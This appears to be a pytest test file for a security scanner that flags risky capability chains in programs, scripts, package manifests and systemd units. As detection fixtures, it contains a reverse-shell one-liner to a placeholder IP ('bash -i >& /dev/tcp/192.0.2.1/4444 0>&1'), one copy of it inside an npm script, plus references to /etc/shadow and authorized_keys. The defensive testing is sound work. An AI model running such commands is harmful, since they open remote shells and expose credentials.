import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.generated import examples
from tests.support.hardened import hardened
from tests.unit.behaviour.examples import BAD, GOOD

from careen.behaviour.capabilities import MAX_PLACES, profile
from careen.behaviour.families import capabilities, read_rules
from careen.behaviour.files import ExaminedFile

CHAINS = [one for one in capabilities() if one.rule]


def examined(kind, content, **fields):
    if isinstance(content, dict):
        content = hardened(content["imports"]) + b"\0" + b"\0".join(content["texts"]) + b"\0"
    return ExaminedFile("opt/x", 1, kind, content, **fields)


def ids(kind, content, **fields):
    return {finding.id for finding in profile(examined(kind, content, **fields))[1]}


def names(kind, content):
    return set(profile(examined(kind, content))[0])


@pytest.mark.parametrize(("id", "kind", "content"), [(id, *example) for id, found in BAD.items() for example in found])
def test_what_has_a_chain(id, kind, content):
    assert id in ids(kind, content)


@pytest.mark.parametrize(("id", "kind", "content"), [(id, *example) for id, found in GOOD.items() for example in found])
def test_what_looks_alike(id, kind, content):
    assert ids(kind, content) == set()


def test_each_chain_has_examples():
    assert BAD.keys() == GOOD.keys() == {one.rule.id for one in CHAINS}


def test_a_capability_alone_is_never_high():
    for one in CHAINS:
        if one.rule.severity == "high" and len(one.needs) < 2:
            assert all(atom.kind == "pattern" for atom in one.needs[0]), one.name
    with pytest.raises(ValueError, match="never high"):
        read_rules('[[rule]]\nid = "CAP-900"\nseverity = "high"\nneeds = [["import:connect"]]\n')


@pytest.mark.parametrize("text", ['needs = [["shape:x"]]', 'needs = [["syscall:x"]]', "needs = []", 'needs = [["bytes:x"]]'])
def test_a_rule_that_cannot_be_is_refused(text):
    with pytest.raises(ValueError, match=r"."):
        read_rules(f'[[rule]]\nname = "x"\n{text}\n')


def test_files_of_the_distribution_have_a_profile_and_no_finding():
    file = examined("shell", BAD["CAP-103"][0][1], verified=True)
    found, findings = profile(file)
    assert "net/connect" in found
    assert findings == []


def test_the_profile_of_a_program_is_what_it_imports_and_calls():
    assert names("program", hardened(("connect", "listen", "execve", "dlsym"))) == {
        "net/connect",
        "net/listen",
        "exec/process",
        "code/resolve",
    }
    system_call = b"\xb8" + (101).to_bytes(4, "little") + b"\x0f\x05"
    assert names("program", hardened(("puts",)) + system_call) == {"process/trace"}
    assert names("program", hardened(("puts",)) + b"\xb8\x65\0\0\0" + b"\x90" * 40 + b"\x0f\x05") == set()


def test_texts_stand_between_boundaries_of_words():
    assert names("program", b"\0/etc/shadow\0") == {"credentials/read"}
    assert names("program", b"\0/etc/shadowed\0") == set()


def test_a_finding_states_where_and_what():
    (finding,) = profile(examined("shell", b"#!/bin/sh\n\n" + BAD["CAP-103"][0][1], owner="pkg:npm/a@1"))[1]
    assert (finding.location.line, finding.layer, finding.package) == (3, 1, "pkg:npm/a@1")
    assert finding.evidence == ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",)


def test_many_places_are_bounded():
    found = profile(examined("shell", b"curl x\n" * 100_000))
    assert found == (("net/connect",), [])
    assert MAX_PLACES < 1000


@examples(50)
@given(st.sampled_from(["program", "python", "javascript", "shell", "perl", "php", "ruby", "other"]), st.binary(max_size=2000))
def test_any_bytes_are_examined(kind, data):
    profile(examined(kind, b"\x7fELF" * (kind == "program") + data))


@pytest.mark.parametrize(
    "text", [b"a" * (1 << 20), b"(" * (1 << 20), b"eval(" * 200_000, b"curl " * 200_000, b"\n" * (1 << 20)]
)
def test_long_texts_are_examined(text):
    for kind in ("python", "javascript", "shell", "php"):
        profile(examined(kind, text))


@pytest.mark.skipif(shutil.which("gcc") is None, reason="no compiler")
def test_what_a_compiler_makes(tmp_path):
    source = tmp_path / "a.c"
    source.write_text("#include <sys/socket.h>\nint main(void) {return connect(socket(2, 1, 0), 0, 0);}\n")
    subprocess.run(["gcc", "-o", tmp_path / "a", source], check=True, capture_output=True)
    assert names("program", (tmp_path / "a").read_bytes()) == {"net/connect"}


@pytest.mark.parametrize(
    ("kind", "content", "name"),
    [
        ("manifest", b'{"scripts": {"preinstall": "node a.js"}}', "start/install-script"),
        ("manifest", b'{"scripts": {"uninstall": "node a.js", "install-all": "x"}}', None),
        ("manifest", b'{"install": {"a": 1}}', None),
        ("unit", b"[Service]\nExecStart=/opt/a\n", "start/service"),
        ("unit", b"[Service]\n# ExecStart=/opt/a\n", None),
        ("unit", b"[Timer]\nOnUnitActiveSec = 1h\n", "start/by-time-or-path"),
        ("unit", b"[Path]\nPathExistsGlob=/tmp/*\n", "start/by-time-or-path"),
        ("unit", b"[Socket]\nListenStream=80\n", "start/by-connection"),
    ],
)
def test_what_is_stated_to_be_started(kind, content, name):
    assert names(kind, content) == ({name} if name else set())


def test_texts_that_are_no_code_have_no_chain():
    text = b'{"scripts": {"go": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}}\n/etc/shadow authorized_keys\n'
    assert names("shell", text)
    assert ids("shell", text)
    assert names("manifest", text) == names("unit", text) == ids("manifest", text) == ids("unit", text) == set()


@pytest.mark.parametrize(("mode", "expected"), [(0o755, False), (0o4755, True), (0o2711, True), (0o1755, False)])
def test_the_rights_of_another_user(mode, expected):
    found, _ = profile(examined("program", hardened(("puts",)), mode=mode))
    assert ("privilege/set-id" in found) is expected
